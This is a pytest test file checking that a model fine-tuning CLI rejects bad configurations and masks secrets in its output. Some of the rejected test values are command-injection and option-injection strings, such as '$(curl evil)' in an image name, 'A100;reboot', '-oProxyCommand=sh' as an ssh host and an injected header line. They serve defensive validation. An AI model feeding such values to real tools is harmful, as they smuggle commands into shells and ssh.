"""``overbrainer config check``: every bad configuration is reported with its key and rule,
exit code 1 and no traceback; good ones print the resolved settings with secrets masked."""

import json
import os
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from overbrainer.cli.main import main

DIGEST = "sha256:" + "0123456789abcdef" * 4
CANARY = "CANARY-7f3a9c-do-not-print"

MINIMAL = """\
[training]
target = "local"
base_model = "Qwen/Qwen3-0.6B"
adapter = "lora"

[targets.local]
kind = "local"
"""


def cfg(training: str = "", targets: str = "", top: str = "", rest: str = "") -> str:
    """A config: ``top`` keys, [training] plus ``training`` lines, a local target, then
    ``targets`` and ``rest``."""
    return (
        top
        + '[training]\ntarget = "local"\nbase_model = "Qwen/Qwen3-0.6B"\nadapter = "lora"\n'
        + training
        + '\n[targets.local]\nkind = "local"\n'
        + targets
        + "\n"
        + rest
    )


def runpod(lines: str = "", *, image: str = f"axolotl/cloud@{DIGEST}") -> str:
    """A [targets.gpu] runpod table with the required keys, then ``lines``."""
    return (
        '\n[targets.gpu]\nkind = "runpod"\ngpu_types = ["NVIDIA GeForce RTX 4090"]\n'
        f'max_hours = 4\nimage = "{image}"\n' + lines
    )


@dataclass(frozen=True)
class Case:
    id: str
    toml: str | None  # None: no overbrainer.toml at all
    expect: tuple[str, ...]
    env: dict[str, str] = field(default_factory=dict)
    dotenv: str | None = None
    absent: tuple[str, ...] = ()


CASES = [
    Case(
        "unknown-key-in-file",
        cfg(training="epoch = 3\n"),
        ("training.epoch: is not a known setting of [training] (did you mean epochs?)",),
    ),
    Case(
        "unknown-section-in-file",
        cfg(rest="[trainig]\nepochs = 3\n"),
        ("trainig: is not a known setting",),
    ),
    Case(
        "unknown-key-for-kind",
        cfg(targets="max_hours = 3\n"),
        ("targets.local.max_hours: is not a known setting of a local target; remove",),
    ),
    Case(
        "unknown-env-key",
        MINIMAL,
        (
            "OVERBRAINER_TRAINING__EPOCH: is not an overbrainer setting",
            "OVERBRAINER_TRAINING__EPOCHS?",
        ),
        env={"OVERBRAINER_TRAINING__EPOCH": "5"},
    ),
    Case(
        "unknown-env-section",
        MINIMAL,
        ("OVERBRAINER_TRAINNG: is not an overbrainer setting",),
        env={"OVERBRAINER_TRAINNG": "x"},
    ),
    Case(
        "env-for-undeclared-target",
        MINIMAL,
        ("OVERBRAINER_TARGETS__NOPE__VENV: names target 'nope'", "declared: local"),
        env={"OVERBRAINER_TARGETS__NOPE__VENV": "/opt/v"},
    ),
    Case(
        "env-host-for-local-target",
        MINIMAL,
        ("OVERBRAINER_TARGETS__LOCAL__HOST", "only an ssh target has a host"),
        env={"OVERBRAINER_TARGETS__LOCAL__HOST": "me@example.com"},
    ),
    Case(
        "env-same-setting-twice",
        MINIMAL,
        ("sets the same setting as", "keep one of them"),
        env={"OVERBRAINER_TRAINING__EPOCHS": "2", "overbrainer_training__epochs": "3"},
    ),
    Case(
        "api-key-in-file",
        cfg(rest=f'[runpod]\napi_key = "{CANARY}"\n'),
        (
            "runpod.api_key: a secret is never read from overbrainer.toml",
            "OVERBRAINER_RUNPOD__API_KEY",
        ),
        absent=(CANARY,),
    ),
    Case(
        "hf-token-in-file",
        cfg(top=f'hf_token = "{CANARY}"\n'),
        ("hf_token: a secret is never read from overbrainer.toml", "OVERBRAINER_HF_TOKEN"),
        absent=(CANARY,),
    ),
    Case(
        "host-in-file",
        cfg(targets=f'\n[targets.box]\nkind = "ssh"\nhost = "me@{CANARY}.example.com"\n'),
        (
            "targets.box.host: a host is never read from overbrainer.toml",
            "OVERBRAINER_TARGETS__BOX__HOST",
        ),
        absent=(CANARY,),
    ),
    Case(
        "store-password-in-file",
        cfg(rest=f'[store]\nurl = "postgresql://me:{CANARY}@db.example.com/ob"\n'),
        ("store.url: has a password", "~/.pgpass", "OVERBRAINER_STORE__URL"),
        absent=(CANARY,),
    ),
    Case(
        "bad-target-name",
        cfg(targets='\n[targets.Gpu-1]\nkind = "local"\n'),
        ("targets.Gpu-1: is not a valid target name", "lowercase letters, digits and _"),
    ),
    Case(
        "undeclared-target",
        MINIMAL.replace('target = "local"', 'target = "gpu"'),
        ("training.target: no target named 'gpu' is declared (declared: local)", "[targets.gpu]"),
    ),
    Case(
        "undeclared-target-from-env",
        MINIMAL,
        ("training.target (from OVERBRAINER_TRAINING__TARGET): no target named 'cloud'",),
        env={"OVERBRAINER_TRAINING__TARGET": "cloud"},
    ),
    Case(
        "wrong-kind",
        MINIMAL.replace('kind = "local"', 'kind = "kubernetes"'),
        ('targets.local.kind: must be "local", "ssh" or "runpod"',),
    ),
    Case(
        "missing-kind",
        MINIMAL.replace('kind = "local"\n', 'venv = "/opt/v"\n'),
        ("targets.local.kind: is required",),
    ),
    Case(
        "missing-training-fields",
        '[training]\ntarget = "local"\n\n[targets.local]\nkind = "local"\n',
        (
            "training.base_model: is required: add base_model = ",
            "training.adapter: is required: add adapter = ",
        ),
    ),
    Case(
        "missing-training-section",
        '[targets.local]\nkind = "local"\n',
        ("training: is required: add a [training] section",),
    ),
    Case(
        "missing-runpod-fields",
        cfg(targets='\n[targets.gpu]\nkind = "runpod"\n'),
        (
            "targets.gpu.gpu_types: is required",
            "targets.gpu.max_hours: is required",
        ),
        absent=("targets.gpu.image",),  # a pinned default Axolotl image
    ),
    Case(
        "negative-epochs", cfg(training="epochs = -1\n"), ("training.epochs: must be at least 1",)
    ),
    Case(
        "zero-micro-batch",
        cfg(training="micro_batch_size = 0\n"),
        ("training.micro_batch_size: must be at least 1",),
    ),
    Case(
        "zero-learning-rate",
        cfg(training="learning_rate = 0.0\n"),
        ("training.learning_rate: must be greater than 0",),
    ),
    Case(
        "inf-learning-rate",
        cfg(training="learning_rate = inf\n"),
        ("training.learning_rate: must be a finite number",),
    ),
    Case(
        "nan-learning-rate",
        cfg(training="learning_rate = nan\n"),
        ("training.learning_rate: must be a finite number",),
    ),
    Case(
        "inf-learning-rate-from-env",
        MINIMAL,
        (
            "training.learning_rate (from OVERBRAINER_TRAINING__LEARNING_RATE): "
            "must be a finite number",
        ),
        env={"OVERBRAINER_TRAINING__LEARNING_RATE": "inf"},
    ),
    Case(
        "lora-dropout-one",
        cfg(training="lora_dropout = 1.0\n"),
        ("training.lora_dropout: must be less than 1",),
    ),
    Case(
        "lora-dropout-negative",
        cfg(training="lora_dropout = -0.1\n"),
        ("training.lora_dropout: must be at least 0",),
    ),
    Case(
        "float-for-int",
        cfg(training="epochs = 2.5\n"),
        ("training.epochs: must be a whole number",),
    ),
    Case(
        "string-for-int",
        cfg(training='epochs = "3"\n'),
        ("training.epochs: must be a whole number",),
    ),
    Case(
        "bad-adapter",
        cfg(training="").replace('"lora"', '"dora"'),
        ("training.adapter: must be one of 'lora', 'qlora' or 'full'",),
    ),
    Case(
        "merge-with-full",
        cfg(training="merge = true\n").replace('adapter = "lora"', 'adapter = "full"'),
        ("training.merge: only applies to adapter lora or qlora",),
    ),
    Case(
        "axolotl-extra-typed-key",
        cfg(rest="[training.axolotl_extra]\nlearning_rate = 0.1\n"),
        (
            "training.axolotl_extra.learning_rate: has a typed setting; "
            "set training.learning_rate instead",
        ),
    ),
    Case(
        "axolotl-extra-managed-key",
        cfg(rest='[training.axolotl_extra]\noutput_dir = "/tmp/x"\n'),
        ("training.axolotl_extra.output_dir: is managed by overbrainer",),
    ),
    Case(
        "path-with-space",
        cfg(targets='venv = "/opt/my venv"\n'),
        ("targets.local.venv: cannot be passed safely",),
        absent=("my venv",),
    ),
    Case(
        "path-with-quote",
        cfg(targets='venv = "/opt/it\'s"\n'),
        ("targets.local.venv: cannot be passed safely",),
    ),
    Case(
        "path-with-dotdot",
        cfg(targets='venv = "/opt/../etc"\n'),
        ("targets.local.venv: cannot be passed safely",),
    ),
    Case(
        "path-with-leading-dash",
        cfg(targets='venv = "-rf"\n'),
        ("targets.local.venv: cannot be passed safely", "leading '-'"),
    ),
    Case(
        "path-with-newline-from-env",
        MINIMAL,
        ("targets.local.venv (from OVERBRAINER_TARGETS__LOCAL__VENV): cannot be passed safely",),
        env={"OVERBRAINER_TARGETS__LOCAL__VENV": f"/opt/v\n{CANARY}"},
        absent=(CANARY,),
    ),
    Case(
        "image-with-shell-metacharacters",
        cfg(targets=runpod(image=f"axolotl/$(curl evil)@{DIGEST}")),
        ("targets.gpu.image: cannot be passed safely",),
        absent=("curl evil",),
    ),
    Case(
        "unpinned-docker-image",
        cfg(targets='runtime = "docker"\nimage = "axolotlai/axolotl:latest"\n'),
        ("targets.local.image: must be pinned by digest", "allow_unpinned_image = true"),
    ),
    Case(
        "unpinned-runpod-image",
        cfg(targets=runpod(image="axolotlai/axolotl-cloud:main-latest")),
        ("targets.gpu.image: must be pinned by digest",),
    ),
    Case(
        "docker-without-image",
        cfg(targets='runtime = "docker"\n'),
        ('targets.local.image: is required with runtime = "docker"',),
    ),
    Case(
        "http-base-url-not-loopback",
        MINIMAL,
        ("runpod.base_url (from OVERBRAINER_RUNPOD__BASE_URL): must use https",),
        env={"OVERBRAINER_RUNPOD__BASE_URL": "http://api.example.com/v2"},
    ),
    Case(
        "ftp-base-url-in-file",
        cfg(rest='[runpod]\nbase_url = "ftp://api.runpod.io/v2"\n'),
        ("runpod.base_url: must be an https:// URL",),
    ),
    Case(
        "network-volume-without-data-center",
        cfg(targets=runpod('network_volume_id = "vol1"\n')),
        ("targets.gpu.network_volume_id: needs exactly one data center",),
    ),
    Case(
        "network-volume-with-two-data-centers",
        cfg(
            targets=runpod('network_volume_id = "vol1"\ndata_center_ids = ["EU-RO-1", "US-KS-2"]\n')
        ),
        ("targets.gpu.network_volume_id: needs exactly one data center",),
    ),
    Case(
        "max-hours-zero",
        cfg(targets=runpod().replace("max_hours = 4", "max_hours = 0")),
        ("targets.gpu.max_hours: must be greater than 0",),
    ),
    Case(
        "max-hours-721",
        cfg(targets=runpod().replace("max_hours = 4", "max_hours = 721")),
        ("targets.gpu.max_hours: must be at most 720",),
    ),
    Case(
        "max-hours-721-from-env",
        cfg(targets=runpod()),
        ("targets.gpu.max_hours (from OVERBRAINER_TARGETS__GPU__MAX_HOURS): must be at most 720",),
        env={"OVERBRAINER_TARGETS__GPU__MAX_HOURS": "721"},
    ),
    Case(
        "container-disk-19",
        cfg(targets=runpod("container_disk_gb = 19\n")),
        ("targets.gpu.container_disk_gb: must be at least 20",),
    ),
    Case(
        "boot-grace-4",
        cfg(targets=runpod("boot_grace_minutes = 4\n")),
        ("targets.gpu.boot_grace_minutes: must be at least 5",),
    ),
    Case(
        "auto-without-min-vram",
        cfg(targets=runpod().replace('["NVIDIA GeForce RTX 4090"]', '"auto"')),
        ('targets.gpu.min_vram_gb: is required with gpu_types = "auto"', "min_vram_gb = 24"),
    ),
    Case(
        "min-vram-with-a-list",
        cfg(targets=runpod("min_vram_gb = 40\n")),
        ('targets.gpu.min_vram_gb: applies only with gpu_types = "auto"',),
    ),
    Case(
        "max-price-with-a-list-from-env",
        cfg(targets=runpod()),
        (
            "targets.gpu.max_price_per_hour (from OVERBRAINER_TARGETS__GPU__MAX_PRICE_PER_HOUR): "
            'applies only with gpu_types = "auto"',
        ),
        env={"OVERBRAINER_TARGETS__GPU__MAX_PRICE_PER_HOUR": "1.5"},
    ),
    Case(
        "gpu-types-neither-list-nor-auto",
        cfg(targets=runpod().replace('["NVIDIA GeForce RTX 4090"]', '"cheapest"')),
        ("targets.gpu.gpu_types: must be a list of GPU type ids", '"auto"'),
    ),
    Case(
        "max-cost-not-positive",
        cfg(targets=runpod("max_cost_usd = 0\n")),
        ("targets.gpu.max_cost_usd: must be greater than 0",),
    ),
    Case(
        "max-cost-not-a-number-from-env",
        cfg(targets=runpod()),
        (
            "targets.gpu.max_cost_usd (from OVERBRAINER_TARGETS__GPU__MAX_COST_USD): "
            "must be a number",
        ),
        env={"OVERBRAINER_TARGETS__GPU__MAX_COST_USD": "ten"},
    ),
    Case(
        "empty-gpu-types",
        cfg(targets=runpod().replace('["NVIDIA GeForce RTX 4090"]', "[]")),
        ("targets.gpu.gpu_types: must not be empty",),
    ),
    Case(
        "gpu-type-with-metacharacter",
        cfg(targets=runpod().replace('"NVIDIA GeForce RTX 4090"', '"NVIDIA A40", "A100;reboot"')),
        ("targets.gpu.gpu_types[1]: is not a GPU type id",),
    ),
    Case(
        "ssh-root-workdir",
        cfg(targets='\n[targets.box]\nkind = "ssh"\nworkdir = "//"\n'),
        ("targets.box.workdir: may not be the root directory",),
    ),
    Case(
        "ssh-host-like-an-option",
        cfg(targets='\n[targets.box]\nkind = "ssh"\n'),
        ("targets.box.host (from OVERBRAINER_TARGETS__BOX__HOST): must be user@host[:port]",),
        env={"OVERBRAINER_TARGETS__BOX__HOST": "-oProxyCommand=sh"},
    ),
    Case(
        "store-url-bad-scheme",
        cfg(rest='[store]\nurl = "mysql://db/ob"\n'),
        ("store.url: must be sqlite:///PATH or postgresql://",),
    ),
    Case(
        "secret-with-line-break",
        MINIMAL,
        ("hf_token (from OVERBRAINER_HF_TOKEN): has a space, line break or control character",),
        env={"OVERBRAINER_HF_TOKEN": f"hf_{CANARY}\nX-Evil: 1"},
        absent=(CANARY,),
    ),
    Case(
        "secret-with-a-pasted-smart-quote",
        MINIMAL,
        (
            "runpod.api_key (from OVERBRAINER_RUNPOD__API_KEY): has a character outside ASCII "
            "(a pasted smart quote or dash?), which an HTTP header cannot carry",
        ),
        env={"OVERBRAINER_RUNPOD__API_KEY": f"rpa_{CANARY}\u2019"},
        absent=(CANARY,),
    ),
    Case(
        "env-type-error-int",
        MINIMAL,
        ("training.epochs (from OVERBRAINER_TRAINING__EPOCHS): must be a whole number",),
        env={"OVERBRAINER_TRAINING__EPOCHS": "three"},
    ),
    Case(
        "env-type-error-bool",
        MINIMAL,
        (
            "training.sample_packing (from OVERBRAINER_TRAINING__SAMPLE_PACKING): "
            "must be true or false",
        ),
        env={"OVERBRAINER_TRAINING__SAMPLE_PACKING": "maybe"},
    ),
    Case(
        "env-type-error-json",
        MINIMAL,
        (
            "training.axolotl_extra (from OVERBRAINER_TRAINING__AXOLOTL_EXTRA): "
            "must be a JSON object",
        ),
        env={"OVERBRAINER_TRAINING__AXOLOTL_EXTRA": "[1, 2]"},
    ),
    Case(
        "env-list-override-unsafe-entry",
        cfg(targets=runpod()),
        (
            "targets.gpu.data_center_ids[1] (from OVERBRAINER_TARGETS__GPU__DATA_CENTER_IDS): "
            "is not a data center id",
        ),
        env={"OVERBRAINER_TARGETS__GPU__DATA_CENTER_IDS": "EU-RO-1, US KS 2"},
    ),
    Case(
        "bad-dotenv-line",
        MINIMAL,
        (".env: line 3: has no '='; write it as KEY=VALUE",),
        dotenv=f"# secrets\nOVERBRAINER_TRAINING__EPOCHS=2\n{CANARY}\n",
        absent=(CANARY,),
    ),
    Case(
        "bad-dotenv-quote",
        MINIMAL,
        (".env: line 1: a double quote is not closed",),
        dotenv=f'OVERBRAINER_HF_TOKEN="{CANARY}\n',
        absent=(CANARY,),
    ),
    Case(
        "bad-toml-syntax",
        '[training]\ntarget = "local"\nepochs = = 3\n',
        ("overbrainer.toml: is not valid TOML", "line 3"),
    ),
    Case(
        "missing-overbrainer-toml",
        None,
        ("is not an overbrainer project yet", "looked for overbrainer.toml", "overbrainer init"),
    ),
    Case(
        "several-problems-at-once",
        cfg(
            training="epochs = 0\nlearning_rate = -1.0\n", targets=runpod("container_disk_gb = 5\n")
        ),
        (
            "training.epochs: must be at least 1",
            "training.learning_rate: must be greater than 0",
            "targets.gpu.container_disk_gb: must be at least 20",
            "OVERBRAINER_TRAINING__EPOCH: is not an overbrainer setting",
            ".env: line 2:",
        ),
        env={"OVERBRAINER_TRAINING__EPOCH": "5"},
        dotenv="A=1\nnot a line\n",
    ),
]


@pytest.fixture
def clean_env(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """No OVERBRAINER_* variable from the developer's shell leaks into a test."""
    for name in list(os.environ):
        if name.upper().startswith("OVERBRAINER_"):
            monkeypatch.delenv(name)
    return monkeypatch


def _write(project: Path, case: Case) -> None:
    project.mkdir(exist_ok=True)
    if case.toml is not None:
        (project / "overbrainer.toml").write_text(case.toml, encoding="utf-8")
    if case.dotenv is not None:
        (project / ".env").write_text(case.dotenv, encoding="utf-8")


def check(project: Path, *args: str) -> int:
    return main(["-C", str(project), "config", "check", *args])


def test_the_table_is_large_and_ids_unique() -> None:
    assert len(CASES) >= 30
    assert len({case.id for case in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_bad_configuration(
    case: Case, tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(project, case)
    for name, value in case.env.items():
        clean_env.setenv(name, value)
    code = check(project)
    out, err = capsys.readouterr()
    assert code == 1, err
    assert out == ""
    assert "Traceback" not in out + err
    for fragment in case.expect:
        assert fragment in err, f"{fragment!r} not in:\n{err}"
    for fragment in case.absent:
        assert fragment not in out + err
    lines = err.splitlines()
    assert lines and all(line.startswith("error: ") for line in lines), err


def test_json_reports_problems_as_one_object(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(project, Case("x", cfg(training="epochs = 0\nlora_r = 0\n"), ()))
    assert check(project, "--json") == 1
    out, err = capsys.readouterr()
    report = json.loads(out)
    assert report["ok"] is False
    assert report["problems"] == [
        "training.epochs: must be at least 1",
        "training.lora_r: must be at least 1",
    ]
    assert err.count("error: ") == 2


# --- the real program --------------------------------------------------------------------


def _run(project: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    base = {k: v for k, v in os.environ.items() if not k.upper().startswith("OVERBRAINER_")}
    return subprocess.run(
        [sys.executable, "-m", "overbrainer", "-C", str(project), *args],
        env={**base, **env},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


SUBPROCESS_CASES = [
    "several-problems-at-once",
    "api-key-in-file",
    "bad-dotenv-line",
    "missing-overbrainer-toml",
    "bad-toml-syntax",
]


@pytest.mark.parametrize("case_id", SUBPROCESS_CASES)
def test_bad_configuration_in_a_real_process(case_id: str, tmp_path: Path) -> None:
    case = next(case for case in CASES if case.id == case_id)
    project = tmp_path / "project"
    _write(project, case)
    done = _run(project, case.env, "config", "check")
    assert done.returncode == 1, done.stderr
    assert done.stdout == ""
    assert "Traceback" not in done.stderr
    for fragment in case.expect:
        assert fragment in done.stderr
    for fragment in case.absent:
        assert fragment not in done.stdout + done.stderr


def test_good_configuration_in_a_real_process(tmp_path: Path) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (project / "overbrainer.toml").write_text(cfg(targets=runpod()), encoding="utf-8")
    (project / ".env").write_text(f"OVERBRAINER_RUNPOD__API_KEY='{CANARY}'\n", encoding="utf-8")
    done = _run(
        project,
        {"OVERBRAINER_TARGETS__GPU__GPU_TYPES": "NVIDIA A40, NVIDIA GeForce RTX 4090"},
        "config",
        "check",
        "--json",
    )
    assert done.returncode == 0, done.stderr
    assert CANARY not in done.stdout + done.stderr
    report = json.loads(done.stdout)
    assert report["settings"]["runpod"]["api_key"] == "****"
    assert report["settings"]["targets"]["gpu"]["gpu_types"] == [
        "NVIDIA A40",
        "NVIDIA GeForce RTX 4090",
    ]


# --- good configurations -----------------------------------------------------------------


def test_defaults(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(project, Case("x", MINIMAL, ()))
    assert check(project) == 0
    out, err = capsys.readouterr()
    assert err == ""
    for line in (
        "[training]",
        "epochs = 3",
        "learning_rate = 0.0002",
        "lora_dropout = 0.05",
        'optimizer = "adamw_torch_fused"',
        "sample_packing = true",
        "[targets.local]",
        'kind = "local"',
        'runtime = "native"',
        "url = (default: SQLite at .overbrainer/events.sqlite)",
        'base_url = "https://api.runpod.io/v2"',
        "api_key = (not set)",
        "hf_token = (not set)",
    ):
        assert line in out.splitlines(), line


def test_the_container_keys_show_only_for_the_docker_runtime(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    docker = f'\n[targets.boxed]\nkind = "ssh"\nruntime = "docker"\nimage = "ax@{DIGEST}"\n'
    _write(project, Case("x", cfg(targets=docker), ()))
    assert check(project) == 0
    out = capsys.readouterr().out
    native = out.split("[targets.local]\n")[1].split("\n\n")[0].splitlines()
    assert native == [
        'kind = "local"',
        'runtime = "native"',
        "venv = (not set)",
        'device = "auto"',
        "processes = (not set)",
    ]
    boxed = out.split("[targets.boxed]\n")[1].split("\n\n")[0].splitlines()
    assert 'engine = "docker"' in boxed and f'image = "ax@{DIGEST}"' in boxed
    assert "allow_unpinned_image = false" in boxed
    assert check(project, "--json") == 0
    report = json.loads(capsys.readouterr().out)
    assert set(report["settings"]["targets"]["local"]) == {
        "kind", "runtime", "venv", "device", "processes"
    }  # fmt: skip
    assert report["settings"]["targets"]["boxed"]["engine"] == "docker"


def test_an_ssh_target_on_the_native_runtime_shows_no_container_key(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # A new user read `engine = "docker"` under a native target and thought docker was used.
    project = tmp_path / "project"
    _write(project, Case("x", cfg(targets='\n[targets.far]\nkind = "ssh"\n'), ()))
    assert check(project) == 0
    far = capsys.readouterr().out.split("[targets.far]\n")[1].split("\n\n")[0].splitlines()
    assert far[:2] == ['kind = "ssh"', 'runtime = "native"']
    assert not [line for line in far if line.startswith(("engine", "image", "allow_unpinned"))]
    assert check(project, "--json") == 0
    shown = json.loads(capsys.readouterr().out)["settings"]["targets"]["far"]
    assert {"engine", "image", "allow_unpinned_image"}.isdisjoint(shown)
    assert shown["workdir"] == "overbrainer"


def test_a_runpod_target_shows_its_default_image(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    gpu = '\n[targets.gpu]\nkind = "runpod"\ngpu_types = ["NVIDIA A40"]\nmax_hours = 2\n'
    _write(project, Case("x", cfg(targets=gpu), ()))
    assert check(project) == 0
    out = capsys.readouterr().out
    assert (
        'image = "axolotlai/axolotl-cloud-term:0.19.0-py3.12-cu130-2.12.1@sha256:'
        'f7b94da82913920a003e28e091d8528f57f76da7360fca87e95faf62fa32a680"'
    ) in out.splitlines()


def test_env_wins_over_dotenv_over_file(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(
        project,
        Case(
            "x",
            cfg(training="epochs = 5\nlora_r = 8\nsequence_len = 1024\n"),
            (),
            dotenv="export OVERBRAINER_TRAINING__LORA_R=32\nOVERBRAINER_TRAINING__EPOCHS=6\n",
        ),
    )
    clean_env.setenv("OVERBRAINER_TRAINING__EPOCHS", "7")
    assert check(project, "--json") == 0
    report = json.loads(capsys.readouterr().out)
    training = report["settings"]["training"]
    assert (training["epochs"], training["lora_r"], training["sequence_len"]) == (7, 32, 1024)
    assert report["from_environment"] == {
        "training.epochs": "OVERBRAINER_TRAINING__EPOCHS",
        "training.lora_r": "OVERBRAINER_TRAINING__LORA_R",
    }


def test_text_output_names_the_variable_that_set_a_value(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(project, Case("x", MINIMAL, ()))
    clean_env.setenv("overbrainer_training__merge", "yes")
    assert check(project) == 0
    assert "merge = true  # from overbrainer_training__merge" in capsys.readouterr().out


def test_comma_separated_lists_and_json_tables_from_env(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(project, Case("x", cfg(targets=runpod()), ()))
    clean_env.setenv("OVERBRAINER_TARGETS__GPU__GPU_TYPES", " NVIDIA H100 80GB HBM3 ,NVIDIA L40,")
    clean_env.setenv("OVERBRAINER_TARGETS__GPU__DATA_CENTER_IDS", "EU-RO-1")
    clean_env.setenv("OVERBRAINER_TARGETS__GPU__NETWORK_VOLUME_ID", "vol1")
    clean_env.setenv("OVERBRAINER_TRAINING__AXOLOTL_EXTRA", '{"chat_template": "chatml"}')
    assert check(project, "--json") == 0
    settings = json.loads(capsys.readouterr().out)["settings"]
    gpu = settings["targets"]["gpu"]
    assert gpu["gpu_types"] == ["NVIDIA H100 80GB HBM3", "NVIDIA L40"]
    assert gpu["data_center_ids"] == ["EU-RO-1"]
    assert gpu["network_volume_id"] == "vol1"
    assert settings["training"]["axolotl_extra"] == {"chat_template": "chatml"}


def test_auto_gpu_choice_and_a_cost_cap_from_env(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(project, Case("x", cfg(targets=runpod()), ()))
    clean_env.setenv("OVERBRAINER_TARGETS__GPU__GPU_TYPES", " auto ")
    clean_env.setenv("OVERBRAINER_TARGETS__GPU__MIN_VRAM_GB", "40")
    clean_env.setenv("OVERBRAINER_TARGETS__GPU__MAX_PRICE_PER_HOUR", "1.5")
    clean_env.setenv("OVERBRAINER_TARGETS__GPU__MAX_COST_USD", "12.5")
    assert check(project, "--json") == 0
    gpu = json.loads(capsys.readouterr().out)["settings"]["targets"]["gpu"]
    assert (gpu["gpu_types"], gpu["min_vram_gb"], gpu["max_price_per_hour"]) == ("auto", 40, 1.5)
    assert gpu["max_cost_usd"] == 12.5


def test_secrets_are_masked(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(
        project,
        Case(
            "x",
            cfg(targets='\n[targets.box]\nkind = "ssh"\n'),
            (),
            dotenv=f'OVERBRAINER_HF_TOKEN="hf_{CANARY}"\n',
        ),
    )
    clean_env.setenv("OVERBRAINER_RUNPOD__API_KEY", f"rp_{CANARY}")
    clean_env.setenv("OVERBRAINER_RUNPOD__S3_ACCESS_KEY", f"user_{CANARY}")
    clean_env.setenv("OVERBRAINER_RUNPOD__S3_SECRET", f"rps_{CANARY}")
    clean_env.setenv("OVERBRAINER_STORE__URL", f"postgresql://me:{CANARY}@db.example.com/ob")
    clean_env.setenv("OVERBRAINER_TARGETS__BOX__HOST", "me@gpu.example.com:2222")
    assert check(project) == 0
    out, err = capsys.readouterr()
    assert CANARY not in out + err
    assert 'api_key = "****"  # from OVERBRAINER_RUNPOD__API_KEY' in out
    assert 's3_access_key = "****"  # from OVERBRAINER_RUNPOD__S3_ACCESS_KEY' in out
    assert 's3_secret = "****"  # from OVERBRAINER_RUNPOD__S3_SECRET' in out
    assert 'hf_token = "****"  # from OVERBRAINER_HF_TOKEN' in out
    assert "postgresql://me:****@db.example.com/ob" in out
    assert 'host = "me@gpu.example.com:2222"' in out

    assert check(project, "--json") == 0
    out, err = capsys.readouterr()
    assert CANARY not in out + err
    report = json.loads(out)
    assert report["settings"]["runpod"]["api_key"] == "****"
    assert report["settings"]["runpod"]["s3_secret"] == "****"
    assert report["settings"]["hf_token"] == "****"


def test_warns_about_what_a_target_still_needs(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(project, Case("x", cfg(targets='\n[targets.box]\nkind = "ssh"\n' + runpod()), ()))
    assert check(project) == 0
    err = capsys.readouterr().err
    assert "warning: targets.box.host: not set; set OVERBRAINER_TARGETS__BOX__HOST=" in err
    assert "warning: targets.gpu: a runpod target needs OVERBRAINER_RUNPOD__API_KEY" in err


def test_empty_values_count_as_unset(
    tmp_path: Path, clean_env: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    _write(
        project,
        Case(
            "x",
            MINIMAL,
            (),
            dotenv="OVERBRAINER_RUNPOD__API_KEY=\nOVERBRAINER_HF_TOKEN=\n",
        ),
    )
    clean_env.setenv("OVERBRAINER_TRAINING__EPOCHS", "")
    clean_env.setenv("OVERBRAINER_METRICS", "/tmp/metrics.jsonl")  # not a setting: allowed
    assert check(project, "--json") == 0
    settings = json.loads(capsys.readouterr().out)["settings"]
    assert settings["runpod"]["api_key"] is None
    assert settings["hf_token"] is None
    assert settings["training"]["epochs"] == 3
